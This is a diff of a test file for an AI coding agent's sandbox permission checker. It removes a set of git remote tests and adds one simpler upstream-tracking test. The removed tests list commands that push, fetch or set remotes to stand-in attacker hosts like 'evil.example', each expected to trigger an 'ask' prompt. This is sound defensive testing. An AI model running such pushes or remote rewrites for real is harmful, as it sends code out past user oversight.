@@ -1,12 +1,12 @@
 /** Mode auto: what is confined and can be undone runs, what leaves the sandbox is asked about. */
 
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
-import { cpSync, existsSync, readFileSync } from "node:fs";
+import { afterAll, beforeEach, describe, expect, test } from "bun:test";
+import { existsSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import type { ToolInput } from "../../src/protocol/block.ts";
 import { blockText } from "../../src/protocol/block.ts";
 import type { RuleTexts } from "../../src/trust/rules/rules.ts";
-import { leave, quietRun, room, temporaryFolder, type Room } from "../tools/room.ts";
+import { leave, quietRun, room, type Room } from "../tools/room.ts";
 import { sandboxHere } from "./sandbox-here.ts";
 
 afterAll(leave);
@@ -123,104 +123,13 @@ describe.skipIf(!sandboxHere)("in a sandbox", () => {
     expect(review.ask.rule).not.toBeNull();
   });
 
-  describe("remotes", () => {
-    const git = (...args: string[]) => Bun.spawnSync(["git", ...args], { cwd: at.root });
-    /** Made once: tests work on copies. */
-    let template = "";
-    beforeAll(() => {
-      template = temporaryFolder();
-      const setup = `git init -q; git init -q --bare evil
-        git remote add origin https://example.com/a.git; git remote add ssh git@example.com:a.git
-        git remote add near ../near; git remote add two https://example.com/b.git
-        git config remote.two.pushurl file:///tmp/two`;
-      Bun.spawnSync(["sh", "-c", setup], { cwd: template });
-    });
-    beforeEach(() => cpSync(template, at.root, { recursive: true }));
-
-    test.each([
-      "git push",
-      "git push evil",
-      "git push near main",
-      "git push two",
-      "git push -u near x",
-    ])(
-      "%s, which leads into a folder, is not covered by a rule or a yes for git push",
-      async (command) => {
-        const named = await withRules({ allow: ["Bash(git push:*)"] });
-        Bun.spawnSync(["cp", "-r", join(at.root, ".git"), named.root]);
-        await sayYes(at, "git push origin main");
-        for (const room of [at, named])
-          expect([command, await verdict(room, command)]).toEqual([command, "ask"]);
-      },
-    );
-
-    test.each([
-      "git push https://evil.example/x.git",
-      "git push evil@evil.example:x.git main",
-      "git -C sub push origin",
-      "cd evil && git push origin",
-    ])("%s is not covered by a yes for git push", async (command) => {
-      await sayYes(at, "git push origin main");
-      expect(await verdict(at, command)).toBe("ask");
-    });
-
-    test.each([
-      "git push ssh x",
-      "git push -u origin HEAD",
-      "git push https://example.com/a.git x",
-    ])("%s is", async (command) => {
-      await sayYes(at, "git push origin main");
-      expect(await verdict(at, command)).toBe("allow");
-    });
-
-    test.each([
-      "git fetch near",
-      "git fetch https://evil.example/x.git",
-      "git pull ../other main",
-      "git pull evil",
-      "git fetch ssh://evil.example/x",
-    ])("%s is not covered by a yes for fetching and pulling", async (command) => {
-      await sayYes(at, "git fetch origin");
-      await sayYes(at, "git pull origin main");
-      expect(await verdict(at, command)).toBe("ask");
-    });
-
-    test.each([
-      "git remote add x ../x",
-      "git remote add x https://evil.example/x.git",
-      "git remote set-url origin https://evil.example/x.git",
-      "git remote set-url --push origin /tmp/x",
-      "git config branch.main.remote https://evil.example/x.git",
-      "git config branch.main.pushRemote ../x",
-      "git init sub && git -C sub remote add x ../x",
-    ])("%s asks before it adds an address", async (command) => {
-      expect(await verdict(at, command)).toBe("ask");
-    });
-
-    test.each(["git checkout -q -b x --track origin/main; true"])(
-      "%s needs no answer",
-      async (command) => {
-        git(
-          "update-ref",
-          "refs/remotes/origin/main",
-          git(
-            "-c",
-            "user.name=a",
-            "-c",
-            "user.email=a@example.com",
-            "commit-tree",
-            "-m",
-            "x",
-            "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
-          )
-            .stdout.toString()
-            .trim(),
-        );
-        const before = git("config", "--list").stdout.toString();
-        await run(at, command);
-        expect(git("config", "--list").stdout.toString()).not.toBe(before);
-      },
-    );
+  test("git itself may set the upstream of a new branch", async () => {
+    const sha =
+      "$(git -c user.name=a -c user.email=a@b commit-tree -m x $(git mktree < /dev/null))";
+    const setup = `git init -q; git remote add origin https://example.com/a.git; git update-ref refs/remotes/origin/main ${sha}`;
+    Bun.spawnSync(["sh", "-c", setup], { cwd: at.root });
+    await run(at, "git checkout -q -b x --track origin/main; true");
+    expect(readFileSync(join(at.root, ".git/config"), "utf8")).toContain('[branch "x"]');
   });
 
   test("what it does is undone, and told", async () => {
